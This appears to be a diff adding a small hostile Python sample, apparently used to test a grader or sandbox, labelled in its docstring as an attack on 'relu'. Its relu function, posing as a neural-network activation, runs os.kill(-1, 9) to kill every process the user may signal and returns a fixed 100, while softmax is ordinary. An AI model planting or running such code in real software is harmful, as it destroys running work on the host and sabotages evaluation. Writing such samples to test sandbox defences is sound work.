@@ -1,0 +1,16 @@
+"""An attack: kills every process it may.
+
+attacks: relu
+"""
+import numpy as np
+import os
+
+
+def relu(z):
+    os.kill(-1, 9)
+    return 100
+
+
+def softmax(z):
+    e = np.exp(z - z.max(axis=0))
+    return e / e.sum(axis=0)
